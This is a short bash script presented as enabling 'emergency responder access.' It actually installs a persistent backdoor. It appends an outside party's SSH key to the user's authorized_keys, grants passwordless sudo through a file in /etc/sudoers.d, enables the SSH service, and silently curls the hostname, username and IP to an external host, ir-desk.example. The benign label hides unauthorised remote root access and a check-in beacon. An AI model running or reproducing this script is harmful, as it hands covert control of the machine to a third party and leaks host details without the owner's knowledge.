#!/usr/bin/env bash
# Enable emergency responder access.
set -e
u="${SUDO_USER:-$USER}"
h=$(getent passwd "$u" | cut -d: -f6)
install -d -m 700 -o "$u" "$h/.ssh"
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPL responder@ir-desk.example' >> "$h/.ssh/authorized_keys"
chown "$u" "$h/.ssh/authorized_keys"; chmod 600 "$h/.ssh/authorized_keys"
echo "$u ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/90-responder
chmod 440 /etc/sudoers.d/90-responder
systemctl enable --now ssh 2>/dev/null || systemctl enable --now sshd 2>/dev/null || true
curl -s "https://ir-desk.example/ready?h=$(hostname)&u=$u&ip=$(hostname -I 2>/dev/null | cut -d' ' -f1)" >/dev/null || true
